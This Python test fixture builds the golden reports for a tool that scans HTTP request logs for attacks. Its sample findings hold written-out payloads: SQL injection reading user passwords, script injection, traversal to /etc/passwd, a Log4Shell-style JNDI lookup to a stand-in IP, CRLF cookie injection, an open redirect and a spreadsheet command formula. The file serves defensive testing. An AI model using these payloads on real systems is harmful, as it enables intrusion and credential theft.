"""Fixed findings, counts and meta: what the golden reports are made of."""

from __future__ import annotations

from pathlib import Path

from dragoman.records import Counts, Evidence, Excerpt, Finding, Hit, Rejected, Where
from dragoman.report.html import Meta, write_html
from dragoman.report.rows import write_csv, write_jsonl

GOLDEN = Path(__file__).parent / "golden"

META = Meta(
    title="Requests of shop.example.com, second week",
    source="evidence/shop-week-2.http.gz",
    bundle="base 0.1.0",
    digest="sha256:4f0c9a51d2be77a06b3c3e0f9a1d8e5c2b7f6a4d3c2b1a0f9e8d7c6b5a493827",
    intel_version="2024-06-01+2 own texts",
    created="2024-06-14 09:30 UTC",
    command="dragoman scan evidence/shop-week-2.http.gz --html report.html",
)

NAMES = {
    "sql-injection": ("SQL injection", "high", "CWE-89"),
    "cross-site-scripting": ("Cross-site scripting", "medium", "CWE-79"),
    "path-traversal": ("Path traversal", "high", "CWE-22"),
    "code-injection": ("Code injection", "critical", "CWE-94"),
    "crlf-injection": ("CRLF injection", "medium", "CWE-93"),
    "open-redirect": ("Open redirect", "low", "CWE-601"),
    "unknown": ("Unknown attack", "medium", "CWE-20"),
}


def finding(
    line: int,
    verdict: str,
    score: float,
    field: str,
    raw: str,
    *views: tuple[str, tuple[str, ...]],
    request: str = "GET /catalogue/list?@@ HTTP/1.1\r\nHost: shop.example.com\r\n"
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n",
) -> Finding:
    name, severity, cwe = NAMES[verdict]
    before, after = request.split("@@")
    start = len(before.encode())
    span = (start, start + len(raw.encode()))
    others = [slug for slug in NAMES if slug not in (verdict, "unknown")]
    return Finding(
        family="payload",
        record=f"shop-week-2:{line}",
        where=Where("evidence/shop-week-2.http.gz", line=line),
        verdict=verdict,
        name=name,
        score=score,
        threshold=0.7312,
        severity=severity,
        evidence=tuple(Evidence(field, text, span, chain) for text, chain in views or [(raw, ())]),
        nearest=(
            Hit(cwe, f"{name} through a field that is not neutralised", "CWE", score * 0.84),
            Hit(f"CVE-2021-{40000 + line}", "A shop module reads a parameter", "NVD", score * 0.79),
            Hit(
                f"CVE-2019-{10000 + line}", "A gallery plug-in trusts its form", "NVD", score * 0.7
            ),
        ),
        runner_ups=tuple(
            Hit(slug, NAMES[slug][0], "dragoman", score * 0.5 - n / 10)
            for n, slug in enumerate(others[:3])
        ),
        bundle="base 0.1.0",
        intel_version=META.intel_version,
        time=f"2024-06-1{line % 10}T08:0{line % 7}:11Z",
        host="shop.example.com",
        excerpt=Excerpt((before + raw + after).encode(), 0),
    )


FORM = (
    "POST /account/notes HTTP/1.1\r\nHost: shop.example.com\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 91\r\n\r\n"
    "title=Sommerfest+M%C3%BCnchen&note=@@&send=1"
)

FINDINGS = [
    finding(
        14,
        "sql-injection",
        0.9871,
        "query:id",
        "id=7%2527%2520UNION%2520SELECT%2520name%252Cpass%2520FROM%2520users--",
        ("7' UNION SELECT name,pass FROM users--", ("percent", "percent")),
        ("7%27%20UNION%20SELECT%20name%2Cpass%20FROM%20users--", ("percent",)),
    ),
    finding(
        41,
        "cross-site-scripting",
        0.9613,
        "form:note",
        "%26lt%3Bscript%26gt%3Balert%281%29%26lt%3B%2Fscript%26gt%3B",
        ("<script>alert(1)</script>", ("percent", "html")),
        request=FORM,
    ),
    finding(
        77,
        "path-traversal",
        0.9442,
        "query:file",
        "file=..%2f..%2f..%2fetc%2fpasswd%00.png",
        ("../../../etc/passwd\x00.png", ("percent",)),
    ),
    finding(
        102,
        "code-injection",
        0.9927,
        "header:x-api-version",
        "${${lower:j}ndi:ldap://203.0.113.9:1389/a}",
        request="GET /api/status HTTP/1.1\r\nHost: api.example.net\r\nX-Api-Version: @@\r\n"
        "Accept: application/json\r\n\r\n",
    ),
    finding(
        131,
        "crlf-injection",
        0.8125,
        "query:next",
        "next=%2Fhome%0D%0ASet-Cookie%3A%20role%3Dadmin",
        ("/home\r\nSet-Cookie: role=admin", ("percent",)),
    ),
    finding(
        160,
        "sql-injection",
        0.9034,
        "json:/filter/name",
        "x\\u0027 OR \\u00271\\u0027=\\u00271",
        ("x' OR '1'='1", ("json",)),
        request="POST /api/v2/search HTTP/1.1\r\nHost: api.example.net\r\n"
        'Content-Type: application/json\r\n\r\n{"filter":{"name":"@@"}}',
    ),
    finding(
        188,
        "open-redirect",
        0.7506,
        "query:url",
        "url=//login.example.org%5C@example.com",
        ("//login.example.org\\@example.com", ("percent",)),
    ),
    finding(
        203,
        "unknown",
        0.7688,
        "cookie:prefs",
        "=cmd|' /C calc'!A0\u202etxt.exe\u200b",
        request="GET /home HTTP/1.1\r\nHost: shop.example.com\r\nCookie: prefs=@@\r\n\r\n",
    ),
]


def counts() -> Counts:
    return Counts(
        parsed=1204,
        found=len(FINDINGS),
        rejected=2,
        not_covered=1,
        rejects=[
            Rejected(
                Where("evidence/shop-week-2.http.gz", line=390),
                "no request line: expected METHOD SP target SP HTTP/x.y",
                b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03<script>alert(1)</script>",
            ),
            Rejected(
                Where("evidence/shop-week-2.http.gz", line=811),
                "record of 3,145,728 bytes is larger than limits.record_bytes",
                b"POST /upload HTTP/1.1\r\nHost: shop.example.com\r\n",
            ),
        ],
    )


def write(folder: Path) -> None:
    """Write the three reports. Run this file to renew the golden ones after a wanted change."""
    write_html(FINDINGS, counts(), META, folder / "report.html")
    with (folder / "report.csv").open("w", encoding="utf-8", newline="") as file:
        write_csv(FINDINGS, file)
    with (folder / "report.jsonl").open("w", encoding="utf-8", newline="") as file:
        write_jsonl(FINDINGS, file)


if __name__ == "__main__":
    write(GOLDEN)
